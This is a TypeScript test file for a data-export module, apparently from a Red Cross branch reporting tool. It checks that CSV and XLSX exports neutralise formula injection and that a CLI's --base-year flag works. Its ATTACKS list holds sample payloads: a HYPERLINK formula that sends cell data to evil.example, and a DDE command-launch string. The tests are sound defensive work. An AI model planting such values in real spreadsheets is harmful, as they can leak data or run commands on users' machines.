import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync } from 'node:fs';
import { createServer as createHttpServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { runExport } from '../src/export-cli';
import { buildCsv, buildXlsx, neutralizeCell, type ExportMeta } from '../src/export';

/** Issue 17: a county ADMIN names its branch like a formula; the province's REPORTER exports. */
const ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];

const meta = (branchName: string): ExportMeta => ({
  branchName,
  period: { table: 'SURVEY', asOf: new Date('2021-06-30T00:00:00Z'), year: 2021, key: 'SURVEY:2021-06-30' },
  source: 'LIVE',
  generatedAt: new Date('2021-12-10T08:00:00Z'),
});

/** The cells of a CSV file (RFC 4180, as buildCsv writes it). */
function csvCells(base64: string): string[] {
  const text = Buffer.from(base64, 'base64').toString('utf8').slice(1);
  const cells: string[] = [];
  const re = /("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/gy;
  let m: RegExpExecArray | null;
  while ((m = re.exec(text)) && re.lastIndex < text.length) cells.push(m[1].startsWith('"') ? m[1].slice(1, -1).replace(/""/g, '"') : m[1]);
  return cells;
}

describe('export cells cannot carry formulas (OWASP CSV injection)', () => {
  it('neutralizes text led by = + - @, tab or CR, and leaves numbers and other text alone', () => {
    for (const a of ATTACKS) expect(neutralizeCell(a)).toBe(`'${a}`);
    expect(neutralizeCell('杭州市红十字会')).toBe('杭州市红十字会');
    expect(neutralizeCell(-3)).toBe(-3);
    expect(neutralizeCell(null)).toBeNull();
  });

  it.each(ATTACKS)('CSV: a branch named %j is a text cell', (name) => {
    const cells = csvCells(buildCsv(meta(name), { countiesRationalized: 3 }).base64);
    expect(cells).toContain(`'${name}`);
    for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t\r]/);
  });

  it.each(ATTACKS)('XLSX: a branch named %j is never a formula nor text led by a formula character', async (name) => {
    const file = await buildXlsx(meta(name), { countiesRationalized: 3 });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(file.base64, 'base64') as never);
    const values: unknown[] = [];
    wb.worksheets[0].eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        values.push(cell.value);
      }),
    );
    expect(values.some((v) => typeof v === 'string' && v.includes(name.trim()))).toBe(true);
    for (const v of values) if (typeof v === 'string') expect(v).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('export CLI: --base-year (issue 16)', () => {
  let server: Server;
  let url: string;
  const bodies: { query: string; variables: Record<string, unknown> }[] = [];

  beforeAll(async () => {
    server = createHttpServer((req, res) => {
      let text = '';
      req.on('data', (c) => (text += c));
      req.on('end', () => {
        bodies.push(JSON.parse(text));
        res.setHeader('content-type', 'application/json');
        res.end(
          JSON.stringify({ data: { organization: { exportTable: { filename: 'x.csv', base64: Buffer.from('ok').toString('base64') } } } }),
        );
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/graphql`;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  it('passes the base year to exportTable, and null without one', async () => {
    const out = join(mkdtempSync(join(tmpdir(), 'rcsc-export-')), 'x.csv');
    const base = {
      gatewayUrl: url,
      authorization: 'Bearer t',
      branch: '330000',
      year: 2021,
      format: 'CSV' as const,
      source: 'LIVE' as const,
      out,
    };
    await runExport({ ...base, baseYear: 2019 });
    await runExport(base);
    expect(bodies[0].query).toContain('exportTable(period: $period, format: $format, source: $source, baseYear: $baseYear)');
    expect(bodies.map((b) => b.variables.baseYear)).toEqual([2019, null]);
    expect(readFileSync(out, 'utf8')).toBe('ok');
  });

  it('refuses --base-year without --year (exit 2, before any request)', () => {
    const cli = join(__dirname, '../dist/export-cli.js');
    const r = spawnSync(process.execPath, [cli, '--branch', '330000', '--as-of', '2021-06-30', '--base-year', '2019'], {
      encoding: 'utf8',
      env: { ...process.env, GATEWAY_URL: url, RCSC_TOKEN: 't' },
    });
    expect(r.status).toBe(2);
    expect(r.stderr).toContain('--base-year goes only with --year');
  });
});
